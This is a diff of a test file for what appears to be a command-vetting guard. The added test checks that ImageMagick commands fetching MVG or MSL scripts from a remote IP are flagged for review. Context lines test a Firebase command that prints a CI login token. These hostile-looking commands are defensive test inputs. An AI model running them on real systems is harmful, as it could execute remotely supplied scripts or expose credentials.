@@ -61,6 +61,12 @@ def test_exiftool_tag_from_a_file_reads_it() -> None:
     assert decided('exiftool "-Comment<=docs/credits.txt" -o out/logo.png logo.png')[0] != "deny"
 
 
+def test_imagemagick_script_fetched_from_a_url() -> None:
+    assert decided('convert "https://203.0.113.7/x.mvg" out.png') == ("ask", "guard-opaque")
+    assert decided("magick msl:https://203.0.113.7/s out.png")[0] == "ask"
+    assert decided("convert https://img.example.org/badge.svg badge.png")[0] not in ("ask", "deny")
+
+
 def test_cli_login_tokens_printed() -> None:
     assert decided("firebase login:ci --no-localhost") == ("deny", "credential-print-cli-token")
     assert decided("firebase login")[0] != "deny"
